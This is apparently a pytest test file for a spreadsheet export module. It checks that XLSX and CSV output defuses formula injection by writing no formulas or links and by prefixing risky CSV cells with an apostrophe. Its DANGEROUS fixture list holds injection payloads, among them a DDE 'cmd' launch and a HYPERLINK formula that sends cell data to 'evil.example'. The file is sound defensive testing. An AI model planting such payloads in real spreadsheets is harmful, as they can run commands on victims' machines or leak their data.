"""Tables that we hand out: reopened, every text is the text it was, and none of them is a formula."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from chengzhao.exchange.sheet_writing import Cell, could_be_formula, csv_lines, csv_text, xlsx

DANGEROUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "=",
)
PLAIN = (
    "",
    "251",
    "张*丰",
    "1=1",
    "a-b",
    "000123",
    "999999199001010011",
    "1E5",
    "2024-10-19",
    "https://a.example/",
)


def reopened(rows: list[list[Cell]], title: str = "表") -> list[list[object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(xlsx(rows, title=title)))
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)


def parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {name: packed.read(name).decode() for name in packed.namelist()}


@pytest.mark.parametrize("text", [*DANGEROUS, *PLAIN])
def test_text_in_a_workbook_is_the_text_it_was(text: str) -> None:
    assert reopened([["列"], [text]]) == [["列"], [text]]


def test_workbook_holds_no_formula_and_no_link() -> None:
    found = parts(xlsx([["列"], *([text] for text in (*DANGEROUS, *PLAIN))], title="表"))
    assert "<f>" not in found["xl/worksheets/sheet1.xml"]
    assert "hyperlink" not in found["xl/worksheets/sheet1.xml"]
    assert not any("externalLink" in name for name in found)


def test_what_could_be_a_formula_is_marked_as_text_for_whoever_edits_it() -> None:
    styles = parts(xlsx([["列"], ["=1+1"], ["251"]], title="表"))["xl/styles.xml"]
    assert styles.count('quotePrefix="1"') == 1


@pytest.mark.parametrize(
    ("cell", "back"),
    [(88, 88.0), (Decimal("251.5"), 251.5), (-3, -3.0), (date(2024, 10, 19), date(2024, 10, 19)), (None, "")],
)
def test_numbers_and_days_stay_what_they_are(cell: Cell, back: object) -> None:
    assert reopened([["列", "末"], [cell, "x"]])[1] == [back, "x"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_has_an_apostrophe_before_what_could_be_a_formula(text: str) -> None:
    content = "".join(csv_lines([["列"], [text]]))
    assert content.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(content[1:], newline=""))) == [["列"], [f"'{text}"]]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        *((text, text) for text in PLAIN),
        (-3, "-3"),
        (Decimal("-0.5"), "-0.5"),
        (Decimal("251.0"), "251"),
        (Decimal(250), "250"),
        (None, ""),
        (date(2024, 10, 19), "2024-10-19"),
    ],
)
def test_csv_has_the_rest_as_it_is(cell: Cell, text: str) -> None:
    assert csv_text(cell) == text


def test_csv_is_written_row_by_row() -> None:
    asked: list[int] = []

    def rows() -> object:
        for number in range(3):
            asked.append(number)
            yield [str(number)]

    lines = csv_lines(rows())  # type: ignore[arg-type]
    next(lines), next(lines)
    assert asked == [0]


@pytest.mark.parametrize(
    ("title", "shown"), [("阅档/2024:[1]*?", "阅档 2024  1"), ("", "表"), ("'", "表"), ("字" * 40, "字" * 31)]
)
def test_title_of_a_sheet_is_made_fit(title: str, shown: str) -> None:
    book = CalamineWorkbook.from_filelike(io.BytesIO(xlsx([["列"]], title=title)))
    assert book.sheet_names == [shown]


@hypothesis_settings(max_examples=60)
@given(
    st.lists(
        st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=20),
        min_size=1,
        max_size=5,
    )
)
def test_any_row_comes_back_and_no_csv_cell_begins_like_a_formula(texts: list[str]) -> None:
    cells: list[Cell] = list(texts)
    assert reopened([["列"] * len(cells), cells])[1:] == [texts]
    assert not any(could_be_formula(csv_text(cell)) for cell in cells)
